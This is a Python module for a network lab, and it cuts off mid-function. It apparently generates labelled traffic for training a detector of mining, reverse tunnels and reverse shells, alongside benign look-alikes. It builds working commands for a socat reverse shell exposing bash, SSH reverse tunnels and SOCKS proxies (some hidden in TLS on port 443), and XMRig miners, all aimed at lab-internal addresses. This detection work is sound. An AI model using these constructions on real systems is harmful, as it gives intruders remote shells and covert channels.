"""Scenarios: what runs in the lab, and the label of each conversation it makes.

A scenario instance is a *session*: the server side starts in the outside namespace, the client side
from one inside host, on a timeline run by its own thread. Labels come from construction: every
session has its own inside host address, so (client, server, server port) names its conversations.
"""

from __future__ import annotations

import random
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

from training.lab import xmrig
from training.lab.netns import Topology
from training.lab.pyssh import AUTOMATION_COMMANDS, SLOW_TASKS

SSH_OPTS = [
    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
    "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes",
]
POOL_PORTS = (3333, 4444, 5555, 7777, 14444, 443, 80)
SSH_PORTS = (22, 22, 443, 2222, 8022)


@dataclass(frozen=True)
class Conversation:
    """A labelled conversation: any flow between client_ip and server_ip:server_port."""

    session: str
    scenario: str
    label: str
    client_ip: str
    server_ip: str
    server_port: int
    protocol: int = 6


@dataclass
class Lab:
    """What sessions share: the topology, keys, certificates, files, and the clock."""

    topo: Topology
    rng: random.Random
    duration: float
    t0: float = 0.0
    conversations: list[Conversation] = field(default_factory=list)
    xmrig_cgroup: Path | None = None  # where the run's XMRig processes share their CPU cap
    _next_in: int = 10
    _next_out: int = 1
    _next_fwd: int = 20000
    _lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def dir(self) -> Path:
        return self.topo.workdir

    def hosts(self, inside: object = None) -> tuple[str, str]:
        """An inside host and a fresh outside server address for one session. The inside host is
        fresh too, unless `inside` names one (sessions that share a machine)."""
        with self._lock:
            if inside is None:
                client = self.topo.inside_ip(self._next_in)
                self._next_in += 1
            else:
                client = self.topo.inside_ip(int(inside))  # type: ignore[call-overload]
            server = self.topo.outside_ip(self._next_out)
            self._next_out += 1
        return client, server

    def forward_port(self) -> int:
        with self._lock:
            self._next_fwd += 1
            return self._next_fwd

    def cert(self, s: Session) -> tuple[Path, Path]:
        """A certificate and key of the session's own (made once per session): key type and size,
        names and alternative names vary, and so does the form: self-signed with alternative
        names, a minimal self-signed one (a short name, nothing else: what a private pool or a
        quick `openssl req` serves), or a leaf signed by a CA of its own and served with that CA
        (a chain, as public servers send). The size of a TLS server's handshake then says nothing
        about what runs inside it, as on the Internet."""
        cert, key = self.dir / "tls" / f"{s.id}-cert.pem", self.dir / "tls" / f"{s.id}-key.pem"
        if cert.exists():
            return cert, key
        with self._lock:
            rng = random.Random(f"{self.rng.random()}-{s.id}")
        alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
        names = ["".join(rng.choice(alphabet) for _ in range(rng.randint(3, 24))) + rng.choice(
            (".example.net", ".example.com", ".pool.example.org", ".cdn.example.net")) for _ in range(5)]
        key_args = rng.choice((["-newkey", "rsa:2048"], ["-newkey", "rsa:3072"], ["-newkey", "rsa:4096"],
                               ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"],
                               ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:secp384r1"]))
        san = ",".join(f"DNS:{n}" for n in names[: rng.randint(1, 5)])
        form = rng.choice(("san", "minimal", "chain"))

        def openssl(*args: str) -> None:
            subprocess.run(["openssl", *args], check=True, capture_output=True)

        if form == "minimal":
            short = "".join(rng.choice(alphabet) for _ in range(rng.randint(2, 8)))
            openssl("req", "-x509", *key_args, "-nodes", "-days", "30", "-subj", f"/CN={short}",
                    "-keyout", str(key), "-out", str(cert))
        elif form == "chain":
            ca_cert, ca_key = self.dir / "tls" / f"{s.id}-ca.pem", self.dir / "tls" / f"{s.id}-ca-key.pem"
            csr, leaf = self.dir / "tls" / f"{s.id}.csr", self.dir / "tls" / f"{s.id}-leaf.pem"
            ext = self.dir / "tls" / f"{s.id}.ext"
            openssl("req", "-x509", *key_args, "-nodes", "-days", "30",
                    "-subj", f"/O={names[1].split('.')[0]}/CN={names[1].split('.')[0]} CA",
                    "-keyout", str(ca_key), "-out", str(ca_cert))
            openssl("req", "-new", *key_args, "-nodes", "-subj", f"/CN={names[0]}",
                    "-keyout", str(key), "-out", str(csr))
            ext.write_text(f"subjectAltName={san}\n")
            openssl("x509", "-req", "-in", str(csr), "-CA", str(ca_cert), "-CAkey", str(ca_key),
                    "-CAcreateserial", "-days", "30", "-extfile", str(ext), "-out", str(leaf))
            cert.write_bytes(leaf.read_bytes() + ca_cert.read_bytes())
        else:
            openssl("req", "-x509", *key_args, "-nodes", "-days", "30", "-subj", f"/CN={names[0]}",
                    "-addext", f"subjectAltName={san}", "-keyout", str(key), "-out", str(cert))
        return cert, key

    def label(self, conv: Conversation) -> None:
        with self._lock:
            self.conversations.append(conv)

    def remaining(self) -> float:
        return self.duration - (time.monotonic() - self.t0)

    def sleep_until(self, offset: float) -> bool:
        """Sleep until `offset` s into the run; False when the run ends first."""
        wait = offset - (time.monotonic() - self.t0)
        if wait > 0:
            time.sleep(min(wait, max(self.remaining(), 0)))
        return self.remaining() > 3


@dataclass
class Session:
    id: str
    scenario: str
    label: str
    start: float
    params: dict[str, object]
    body: Callable[[Lab, Session], None]

    def describe(self) -> dict[str, object]:
        return {"id": self.id, "scenario": self.scenario, "label": self.label,
                "start_s": round(self.start, 1), "params": self.params}


TUNNEL_SETTLE_S = 3
"""An SSH reverse tunnel (ssh, autossh, dbclient) is first used this long after its session starts,
plus its `idle_before`."""


def first_use_s(session: dict[str, object]) -> float | None:
    """Seconds from a reverse-tunnel session's start (when its client connects) to the tunnel's
    first use, by the schedule its scenario follows (after its leading "idle" steps: a tunnel never
    used is counted from the end of its schedule); None for a session of another class. Sessions
    are described as `Session.describe` writes them in labels.json."""
    if session.get("label") != "reverse_tunnel":
        return None
    params = session.get("params")
    if not isinstance(params, dict) or "idle_before" not in params:
        return 0.0  # used as soon as it connects (the reverse shell)
    settle = TUNNEL_SETTLE_S if "uses" in params else 0
    # `reverse_tunnel` waits out an "idle" step before the next: the first use is after them
    idle = 0.0
    for step, length in params.get("uses", []):
        if step != "idle":
            break
        idle += float(length)
    return float(params["idle_before"]) + settle + idle


def py(module: str, *args: object) -> list[str]:
    return [sys.executable, "-m", module, *map(str, args)]


NGINX_TLS12_HOST = 249
"""The outside host number of nginx's TLS 1.2 listener (the other one, 250, offers TLS 1.2 and 1.3:
run.nginx_conf)."""


def uses_tls(s: Session) -> bool:
    """Whether the session's server speaks TLS (its own, stunnel's, socat's or nginx's)."""
    if s.body in (https, long_download, reverse_ssh_stunnel, tls_preconnect):
        return True
    if s.body is reverse_shell:
        return bool(s.params.get("tls", True))
    return bool(s.params.get("tls"))


def uses_stunnel(s: Session) -> bool:
    """Whether the session carries a cleartext app in a TLS relay (`stunnel_pair`)."""
    return s.body is reverse_ssh_stunnel or s.params.get("tls") == "stunnel"


GOTLS_SOURCE = Path(__file__).with_name("gotls") / "main.go"


def build_gotls(where: Path) -> Path:
    """Compile the Go TLS relay (training/lab/gotls, Go's standard library only) into `where`
    (the lab's working directory); Go's build cache makes a second build quick."""
    out = where / "gotls"
    if not out.exists():
        subprocess.run(["go", "build", "-o", str(out), str(GOTLS_SOURCE)], check=True,
                       capture_output=True, cwd=GOTLS_SOURCE.parent)
    return out


def tls12(s: Session) -> bool:
    """The session's TLS server agrees to TLS 1.2 at most (`run --tls12-share`): TLS 1.2's
    handshake (the certificate in clear, one more round trip) and records (an explicit nonce,
    29 bytes of overhead against 22) are what older pools, proxies and servers still speak."""
    return s.params.get("tls_max") == "1.2"


# -- servers ------------------------------------------------------------------------------------
def start_sshd(lab: Lab, where: str, listen: str, port: int, name: str) -> None:
    cfg = lab.dir / "ssh" / f"sshd-{name}.conf"
    cfg.write_text("\n".join([
        f"ListenAddress {listen}:{port}", f"HostKey {lab.dir / 'ssh' / 'host_ed25519'}",
        f"AuthorizedKeysFile {lab.dir / 'ssh' / 'authorized_keys'}", f"PidFile {cfg}.pid",
        "PermitRootLogin yes", "PasswordAuthentication no", "KbdInteractiveAuthentication no",
        "UsePAM no", "StrictModes no", "AllowTcpForwarding yes", "GatewayPorts no",
        "PrintMotd no", "MaxStartups 100", "MaxSessions 50", "LogLevel ERROR",
        "Subsystem sftp internal-sftp", "",
    ]))
    lab.topo.spawn(where, ["/usr/sbin/sshd", "-D", "-e", "-f", str(cfg)], f"sshd-{name}")
    time.sleep(0.3)


def ssh_server(lab: Lab, s: Session) -> tuple[str, str, int]:
    """An sshd outside on the session's server address and ``port``, its conversation labelled:
    (client, server, port), the client from the session's ``inside_host`` if it has one."""
    client, server = lab.hosts(s.params.get("inside_host"))
    port = int(s.params["port"])  # type: ignore[call-overload]
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    start_sshd(lab, "out", server, port, s.id)
    return client, server, port


def stunnel_pair(lab: Lab, s: Session, client: str, server: str, port: int) -> tuple[int, int]:
    """TLS by OpenSSH's neighbour OpenSSL (stunnel) on both ends, for apps that speak cleartext;
    by Go's crypto/tls (training/lab/gotls) instead when the session's ``tls_relay`` is "go".

    The app's client talks plain TCP to a stunnel client on the inside host's loopback; stunnel
    connects from the session's inside address to a stunnel server outside, which hands the plain
    stream to the app's server on the outside loopback. Only the TLS leg crosses the router.
    Returns (local port for the client app, backend port for the server app).
    """
    local, backend = lab.forward_port(), lab.forward_port()
    cert, key = lab.cert(s)
    if s.params.get("tls_relay") == "go":
        gotls = str(build_gotls(lab.dir))
        lab.topo.spawn("out", [gotls, "server", "-accept", f"{server}:{port}", "-connect",
                               f"127.0.0.1:{backend}", "-cert", str(cert), "-key", str(key),
                               "-max", "1.2" if tls12(s) else "1.3"], f"{s.id}-gotls-srv")
        lab.topo.spawn("in", [gotls, "client", "-accept", f"127.0.0.1:{local}", "-connect",
                              f"{server}:{port}", "-local", client], f"{s.id}-gotls-cli")
        time.sleep(0.3)
        return local, backend
    for where, name, lines in (
        ("out", "srv", [f"accept = {server}:{port}", f"connect = 127.0.0.1:{backend}",
                        f"cert = {cert}", f"key = {key}",
                        *(["sslVersionMax = TLSv1.2"] if tls12(s) else [])]),
        ("in", "cli", ["client = yes", f"accept = 127.0.0.1:{local}", f"connect = {server}:{port}",
                       f"local = {client}"]),
    ):
        conf = lab.dir / "tls" / f"stunnel-{s.id}-{name}.conf"
        conf.write_text("\n".join(["foreground = yes", "pid =", "syslog = no", "debug = 3",
                                    f"[{s.id}]", *lines, ""]))
        lab.topo.spawn(where, ["stunnel4", str(conf)], f"{s.id}-stunnel-{name}")
    time.sleep(0.3)
    return local, backend


def ssh_client(lab: Lab, *extra: str) -> list[str]:
    return ["ssh", "-i", str(lab.dir / "ssh" / "id_ed25519"), *SSH_OPTS, *extra]


def dbclient(lab: Lab, *extra: str) -> list[str]:
    return ["dbclient", "-y", "-y", "-i", str(lab.dir / "ssh" / "id_dropbear"), *extra]


def typist(lab: Lab, duration: float, seed: int, cmd: list[str]) -> list[str]:
    return py("training.lab.apps", "typist", "--duration", round(duration), "--seed", seed, "--", *cmd)


# -- mining ---------------------------------------------------------------------------------------
def vardiff(s: Session) -> list[str]:
    """The pool's options for the session's ``target_share_s`` (`run --vardiff-share`): it
    retargets the difficulty so that shares come about that often, as real pools do."""
    target = s.params.get("target_share_s")
    return ["--target-share-s", str(target)] if target else []


def mining(lab: Lab, s: Session) -> None:
    """A stratum pool outside and a miner inside. tls: False, True (Python ssl) or "stunnel";
    miner: our emulator, or XMRig (``miner: "xmrig"``, xmr dialect: training/lab/xmrig.py)."""
    client, server = lab.hosts(s.params.get("inside_host"))
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    seed = int(p["seed"])  # type: ignore[call-overload]
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    listen, connect, bind = f"{server}:{port}", f"{server}:{port}", ["--bind", client]
    if p["tls"] == "stunnel":
        local, backend = stunnel_pair(lab, s, client, server, port)
        listen, connect, bind = f"127.0.0.1:{backend}", f"127.0.0.1:{local}", []
    pool = py("training.lab.stratum", "pool", "--listen", listen, "--dialect",
              p["dialect"], "--job-min", p["job_min"], "--job-max", p["job_max"],
              "--seed", p["seed"])
    if p.get("miner") == "xmrig":
        pool += ["--difficulty", str(xmrig.pool_difficulty(random.Random(seed)))]
    pool += vardiff(s)
    if p["tls"] is True:
        cert, key = lab.cert(s)
        pool += ["--tls", "--cert", str(cert), "--key", str(key),
                 *(["--tls-max", "1.2"] if tls12(s) else [])]
    lab.topo.spawn("out", [str(a) for a in pool], f"{s.id}-pool")
    if not lab.sleep_until(s.start):
        return
    if p.get("miner") == "xmrig":
        if bind:  # XMRig cannot bind: a host route gives its connection the session's address
            lab.topo.run("in", "ip", "route", "add", f"{server}/32", "via", lab.topo.gateway_in,
                         "src", client)
        log = lab.dir / "logs" / f"{s.id}-xmrig.log"
        lab.topo.spawn("in", xmrig.argv(connect, lab.remaining() - 4, seed, p["tls"] is True,
                                        log), f"{s.id}-xmrig", cgroup=lab.xmrig_cgroup)
        return
    miner = py("training.lab.stratum", "miner", "--connect", connect, "--dialect",
               p["dialect"], "--hashrate", p["hashrate"], *bind,
               "--duration", max(lab.remaining() - 4, 5), "--seed", p["seed"])
    if p["tls"] is True:
        miner.append("--tls")
    if p.get("reconnect_after"):
        miner += ["--reconnect-after", str(p["reconnect_after"])]
    lab.topo.spawn("in", miner, f"{s.id}-miner")


# -- reverse tunnels ------------------------------------------------------------------------------
def reverse_tunnel(lab: Lab, s: Session) -> None:
    """`ssh -N -R` (or autossh) from inside; the outside later uses it: a shell, a file, or nothing."""
    client, server, port = ssh_server(lab, s)
    p = s.params
    fwd = lab.forward_port()
    if not lab.sleep_until(s.start):
        return
    alive = int(p["alive"])  # type: ignore[call-overload]
    opts = ["-N", "-R", f"127.0.0.1:{fwd}:127.0.0.1:22", "-b", client, "-p", str(port),
            "-o", "ExitOnForwardFailure=yes"]
    if alive:
        opts += ["-o", f"ServerAliveInterval={alive}", "-o", "ServerAliveCountMax=3"]
    argv = ssh_client(lab, *opts, f"root@{server}")
    env = None
    if p["tool"] == "autossh":
        argv = ["autossh", "-M", "0", *argv[1:]]
        env = {"AUTOSSH_GATETIME": "0", "AUTOSSH_PATH": "/usr/bin/ssh"}
    elif p["tool"] == "dbclient":  # Dropbear's client: another SSH implementation on the wire
        argv = dbclient(lab, "-N", "-R", f"127.0.0.1:{fwd}:127.0.0.1:22", "-b", client,
                        "-p", str(port), "-K", str(alive), f"root@{server}")
    elif p["tool"] == "asyncssh":  # a pure-Python SSH library's client (training/lab/pyssh.py)
        argv = py("training.lab.pyssh", "tunnel", "--connect", f"{server}:{port}", "--bind", client,
                  "--key", lab.dir / "ssh" / "id_ed25519", "--keepalive", alive,
                  "--listen-port", fwd, "--dest", "127.0.0.1:22")
    lab.topo.spawn("in", argv, f"{s.id}-tunnel", env=env)
    t = s.start + TUNNEL_SETTLE_S + float(p["idle_before"])  # type: ignore[arg-type]
    use_ssh = ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")
    for step, length in p["uses"]:  # type: ignore[attr-defined]
        if not lab.sleep_until(t):
            return
        if step == "shell":
            dur = min(float(length), lab.remaining() - 5)
            lab.topo.spawn("out", typist(lab, dur, int(p["seed"]), use_ssh), f"{s.id}-use-{t:.0f}")  # type: ignore[call-overload]
            t += dur + 2
        elif step == "pull":
            src = lab.dir / "files" / f"f{int(length)}"
            pull = ["scp", "-i", str(lab.dir / "ssh" / "id_ed25519"), *SSH_OPTS, "-P", str(fwd),
                    f"root@127.0.0.1:{src}", str(lab.dir / "files" / "pulled")]
            lab.topo.run("out", *pull, check=False)
            t = time.monotonic() - lab.t0 + 1
        elif step == "idle":
            t += float(length)


# -- benign look-alikes ---------------------------------------------------------------------------
def interactive_ssh(lab: Lab, s: Session) -> None:
    client, server, port = ssh_server(lab, s)
    if not lab.sleep_until(s.start):
        return
    dur = min(float(s.params["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
    if s.params.get("client") == "dbclient":
        cmd = dbclient(lab, "-t", "-b", client, "-p", str(port), f"root@{server}")
    else:
        cmd = ssh_client(lab, "-tt", "-b", client, "-p", str(port), f"root@{server}")
    lab.topo.spawn("in", typist(lab, dur, int(s.params["seed"]), cmd), f"{s.id}-typist")  # type: ignore[call-overload]


def ssh_automation(lab: Lab, s: Session) -> None:
    """Commands run on a server over SSH without a terminal, as configuration management and
    monitoring do: AsyncSSH (training/lab/pyssh.py) with `per_connection` commands a connection
    (0: all on one), or OpenSSH's `ssh HOST CMD`, a connection a command, or with ``mux`` (seconds)
    on a master connection that persists that long after its last command (ControlPersist, as
    Ansible runs OpenSSH); `gap_s` apart on average. With ``tasks: "slow"``, tasks that work seconds
    before they answer (pyssh.SLOW_TASKS)."""
    client, server, port = ssh_server(lab, s)
    if not lab.sleep_until(s.start):
        return
    key = lab.dir / "ssh" / "id_ed25519"
    gap = float(s.params["gap_s"])  # type: ignore[arg-type]
    if s.params["client"] == "asyncssh":
        lab.topo.spawn("in", py("training.lab.pyssh", "exec", "--connect", f"{server}:{port}",
                                "--bind", client, "--key", key, "--seed", s.params["seed"],
                                "--gap-mean", gap, "--per-connection", s.params["per_connection"],
                                "--tasks", s.params.get("tasks", "facts"),
                                "--duration", max(lab.remaining() - 4, 5)), f"{s.id}-pyssh")
        return
    rng = random.Random(int(s.params["seed"]))  # type: ignore[call-overload]
    mux: list[str] = []
    if s.params.get("mux"):  # Ansible's way: commands share a master connection while it persists
        mux = ["-o", "ControlMaster=auto", "-o", f"ControlPath={lab.dir / 'ssh' / s.id}-%C",
               "-o", f"ControlPersist={s.params['mux']}"]
    commands = SLOW_TASKS if s.params.get("tasks") == "slow" else AUTOMATION_COMMANDS
    t = s.start
    while lab.sleep_until(t):
        lab.topo.run_quiet("in", *ssh_client(lab, *mux, "-b", client, "-p", str(port),
                                             f"root@{server}", rng.choice(commands)),
                           timeout=120)
        t = time.monotonic() - lab.t0 + rng.expovariate(1 / gap)


def file_copy(lab: Lab, s: Session) -> None:
    """scp or sftp downloads and uploads, a new connection each."""
    client, server, port = ssh_server(lab, s)
    t = s.start
    key = str(lab.dir / "ssh" / "id_ed25519")
    for size, upload in s.params["copies"]:  # type: ignore[attr-defined]
        if not lab.sleep_until(t):
            return
        src = lab.dir / "files" / f"f{size}"
        dst = lab.dir / "files" / f"copy-{s.id}"
        remote = f"root@{server}:"
        argv = ["scp", "-i", key, *SSH_OPTS, "-o", f"BindAddress={client}", "-P", str(port)]
        argv += [str(src), f"{remote}{dst}"] if upload else [f"{remote}{src}", str(dst)]
        lab.topo.run("in", *argv, check=False)
        t = time.monotonic() - lab.t0 + lab.rng.uniform(5, 40)


def https(lab: Lab, s: Session) -> None:
    """curl against nginx: pages and downloads, some on one keep-alive connection."""
    client = lab.hosts()[0]
    server = lab.topo.outside_ip(NGINX_TLS12_HOST if tls12(s) else 250)
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, 443))
    t = s.start
    for sizes in s.params["fetches"]:  # type: ignore[attr-defined]
        if not lab.sleep_until(t):
            return
        argv = ["curl", "-sk", "--interface", client, "--max-time", "60"]
        for size in sizes:
            argv += ["-o", "/dev/null", f"https://{server}/f{size}"]
        lab.topo.run("in", *argv, check=False)
        t = time.monotonic() - lab.t0 + lab.rng.uniform(2, 30)


FIRST_FILE = 3_000
"""The smallest file `prepare` serves (run.FILE_SIZES[0]): what a used pre-connection fetches."""
PRECONNECT_GROUPS = ("X25519", "P-256", "P-384", "X25519:P-256", "X448")
"""Key-exchange groups an unused connection's ClientHello offers (its key share's size varies)."""


def tls_preconnect(lab: Lab, s: Session) -> None:
    """TLS connections opened and then barely used, or not at all, as browsers' speculative
    pre-connections, load balancers' health checks and certificate scanners make them: OpenSSL's
    `s_client` completes a handshake with nginx, holds the connection idle (or not at all), then
    closes it or sends one small request first; nginx closes one that waits too long. Each
    connection is a handshake, the server's session tickets and a close: a pool's first answer
    comes right after a handshake too, so a model that saw handshakes only before real traffic
    could take the tickets for one. `probes`: (seconds held, whether a request follows) per
    connection, a few seconds to a minute apart."""
    client = lab.hosts()[0]
    server = lab.topo.outside_ip(NGINX_TLS12_HOST if tls12(s) else 250)
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, 443))
    rng = random.Random(int(s.params["seed"]))  # type: ignore[call-overload]
    t = s.start
    for hold, used in s.params["probes"]:  # type: ignore[attr-defined]
        if not lab.sleep_until(t):
            return
        name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 30)))
        argv = ["openssl", "s_client", "-connect", f"{server}:443", "-bind", f"{client}:0",
                "-servername", f"{name}.example.net", "-groups", rng.choice(PRECONNECT_GROUPS)]
        request = (f"printf 'GET /f{FIRST_FILE} HTTP/1.1\\r\\nHost: {name}.example.net\\r\\n"
                   "Connection: close\\r\\n\\r\\n'; sleep 2;") if used else ""
        lab.topo.run("in", "sh", "-c", f"(sleep {hold:.1f}; {request}) | {quote(argv)} >/dev/null 2>&1",
                     check=False)
        t = time.monotonic() - lab.t0 + rng.uniform(3, 60)


def chat(lab: Lab, s: Session) -> None:
    """XMPP chat (training/lab/chat.py): prosody outside, a slixmpp client on the inside host that
    chats with a peer beside the server (only the inside connection crosses the router): a login,
    presence, messages seconds to minutes apart, keepalive pings; with ``queries_s``
    (run --chat-query-share), the client's queries to the server that many seconds apart on
    average (chat.QUERIES). tls: STARTTLS or none."""
    from training.lab.chat import prosody_config, register

    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    work = lab.dir / "chat" / s.id
    work.mkdir(parents=True, exist_ok=True)
    domain = f"{s.id.replace('-', '')}.example.net"
    config = work / "prosody.cfg.lua"
    config.write_text(prosody_config(work, server, port, domain, lab.cert(s) if p["tls"] else None,
                                     tls12(s), queries="queries_s" in p))
    password = f"pw-{p['seed']}"
    for user in ("me", "peer"):
        register(config, f"{user}@{domain}", password)
    lab.topo.spawn("out", ["prosody", "--config", str(config)], f"{s.id}-prosody")
    if not lab.sleep_until(s.start):
        return
    duration = round(max(lab.remaining() - 4, 5))
    common = ["--password", password, "--server", f"{server}:{port}", "--duration", duration,
              "--ping", p["ping_s"]]
    lab.topo.spawn("out", py("training.lab.chat", "client", "--jid", f"peer@{domain}",
                             "--peer", f"me@{domain}", "--mean-gap", round(3 * float(p["gap_s"])),  # type: ignore[arg-type]
                             "--replies", "--seed", int(p["seed"]) + 1, *common), f"{s.id}-peer")  # type: ignore[call-overload]
    time.sleep(1)
    lab.topo.spawn("in", py("training.lab.chat", "client", "--jid", f"me@{domain}", "--peer",
                            f"peer@{domain}", "--bind", client, "--mean-gap", p["gap_s"],
                            "--seed", p["seed"], *common,
                            *(["--queries", p["queries_s"]] if "queries_s" in p else [])),
                   f"{s.id}-client")


def app_pair(lab: Lab, s: Session) -> None:
    """A long-lived benign app: WebSocket heartbeats, HTTP long-poll, JSON-RPC polling, or a
    push-notification channel. tls: False, True (Python ssl) or "stunnel"."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    kind = str(p["kind"])
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    tls = p["tls"]
    listen, target_host, bind = f"{server}:{port}", f"{server}:{port}", ["--bind", client]
    if tls == "stunnel":
        local, backend = stunnel_pair(lab, s, client, server, port)
        listen, target_host, bind = f"127.0.0.1:{backend}", f"127.0.0.1:{local}", []
    server_argv = py("training.lab.apps", f"{kind}-server", "--listen", listen, "--seed", p["seed"])
    if kind == "push":
        server_argv += ["--notify-interval", str(p["notify_s"])]
    if tls is True:
        cert, key = lab.cert(s)
        server_argv += ["--tls", "--cert", str(cert), "--key", str(key),
                        *(["--tls-max", "1.2"] if tls12(s) else [])]
    lab.topo.spawn("out", server_argv, f"{s.id}-server")
    if not lab.sleep_until(s.start):
        return
    if kind == "push":  # line JSON on a socket, no URL
        heartbeat = float(p["heartbeat_s"])  # type: ignore[arg-type]
        connect = ["--connect", target_host, *(["--tls"] if tls is True else []),
                   "--heartbeat-min", str(heartbeat), "--heartbeat-max", str(round(1.2 * heartbeat, 1))]
    else:
        scheme = ("wss" if tls is True else "ws") if kind == "ws" else ("https" if tls is True else "http")
        path = {"ws": "/stream", "longpoll": "/poll", "json-rpc": "/"}[kind]
        connect = ["--connect" if kind == "ws" else "--url", f"{scheme}://{target_host}{path}"]
    client_argv = py("training.lab.apps", f"{kind}-client", *connect, *bind,
                     "--duration", round(max(lab.remaining() - 4, 5)), "--seed", p["seed"])
    lab.topo.spawn("in", client_argv, f"{s.id}-client")


def quote(argv: list[str]) -> str:
    return shlex.join(argv)


def as_dict(conv: Conversation) -> dict[str, object]:
    return asdict(conv)


# -- more of each family (issue "Detection quality") ---------------------------------------------
def mining_nat(lab: Lab, s: Session) -> None:
    """Several miners behind one NAT address, each its own connection to the same pool."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    pool = py("training.lab.stratum", "pool", "--listen", f"{server}:{port}", "--dialect",
              p["dialect"], "--job-min", p["job_min"], "--job-max", p["job_max"],
              "--seed", p["seed"], *vardiff(s))
    lab.topo.spawn("out", pool, f"{s.id}-pool")
    for i in range(int(p["miners"])):  # type: ignore[call-overload]
        if not lab.sleep_until(s.start + 7 * i):
            return
        miner = py("training.lab.stratum", "miner", "--connect", f"{server}:{port}", "--dialect",
                   p["dialect"], "--hashrate", float(p["hashrate"]) * lab.rng.uniform(0.3, 2),  # type: ignore[arg-type]
                   "--bind", client, "--duration", max(lab.remaining() - 4, 5),
                   "--seed", int(p["seed"]) + i)  # type: ignore[call-overload]
        lab.topo.spawn("in", miner, f"{s.id}-miner{i}")


def reverse_socks(lab: Lab, s: Session) -> None:
    """`ssh -R PORT` (reverse dynamic SOCKS): the outside side browses the inside network."""
    client, server, port = ssh_server(lab, s)
    p = s.params
    fwd = lab.forward_port()
    if not lab.sleep_until(s.start):
        return
    alive = int(p["alive"])  # type: ignore[call-overload]
    lab.topo.spawn("in", ssh_client(lab, "-N", "-R", f"127.0.0.1:{fwd}", "-b", client, "-p", str(port),
                                    "-o", f"ServerAliveInterval={alive or 0}", f"root@{server}"),
                   f"{s.id}-tunnel")
    t = s.start + float(p["idle_before"])  # type: ignore[arg-type]
    for size in p["fetches"]:  # type: ignore[attr-defined]
        if not lab.sleep_until(t):
            return
        lab.topo.run("out", "curl", "-s", "--max-time", "60", "--socks5-hostname", f"127.0.0.1:{fwd}",
                     "-o", "/dev/null", f"http://127.0.0.1:8000/f{size}", check=False)
        t = time.monotonic() - lab.t0 + lab.rng.uniform(3, 40)


def reverse_ssh_stunnel(lab: Lab, s: Session) -> None:
    """`ssh -R` carried inside TLS by stunnel (port 443 looks like HTTPS), used for a shell."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    fwd = lab.forward_port()
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    local, backend = stunnel_pair(lab, s, client, server, port)
    start_sshd(lab, "out", "127.0.0.1", backend, s.id)
    if not lab.sleep_until(s.start):
        return
    lab.topo.spawn("in", ssh_client(lab, "-N", "-R", f"127.0.0.1:{fwd}:127.0.0.1:22", "-p", str(local),
                                    "-o", "ServerAliveInterval=30", "root@127.0.0.1"), f"{s.id}-tunnel")
    if not lab.sleep_until(s.start + float(p["idle_before"])):  # type: ignore[arg-type]
        return
    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]),  # type: ignore[call-overload]
                                 ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")), f"{s.id}-use")


def reverse_shell(lab: Lab, s: Session) -> None:
    """A reverse shell: the inside host connects out with socat, over TLS (`tls`, the default) or
    plain TCP, and hands over bash; the outside side types commands into it."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    tls = bool(p.get("tls", True))
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    if tls:
        cert, key = lab.cert(s)
        listen = f"OPENSSL-LISTEN:{port},bind={server},reuseaddr,cert={cert},key={key},verify=0"
        if tls12(s):
            listen += ",openssl-max-proto-version=TLS1.2"
        connect = f"OPENSSL:{server}:{port},bind={client},verify=0"
    else:
        listen = f"TCP-LISTEN:{port},bind={server},reuseaddr"
        connect = f"TCP:{server}:{port},bind={client}"
    if not lab.sleep_until(s.start):
        return
    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]), ["socat", "STDIO", listen]),  # type: ignore[call-overload]
                   f"{s.id}-listener")
    time.sleep(1.0)
    lab.topo.spawn("in", ["socat", connect, "EXEC:bash -i,pty,stderr,setsid,sigint,sane"], f"{s.id}-shell")


def reverse_wstunnel(lab: Lab, s: Session) -> None:
    """A chisel-like WebSocket reverse tunnel (training/lab/wstunnel.py) to the inside sshd."""
    client, server = lab.hosts()
    p = s.params
    port = int(p["port"])  # type: ignore[call-overload]
    fwd = lab.forward_port()
    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
    srv = py("training.lab.wstunnel", "server", "--listen", f"{server}:{port}",
             "--expose", f"127.0.0.1:{fwd}")
    if p["tls"]:
        cert, key = lab.cert(s)
        srv += ["--tls", "--cert", str(cert), "--key", str(key), *(["--tls-max", "1.2"] if tls12(s) else [])]
    lab.topo.spawn("out", srv, f"{s.id}-server")
    if not lab.sleep_until(s.start):
        return
    scheme = "wss" if p["tls"] else "ws"
    lab.topo.spawn("in", py("training.lab.wstunnel", "agent", "--connect", f"{scheme}://{server}:{port}/ws",
                            "--target", "127.0.0.1:22", "--bind", client,
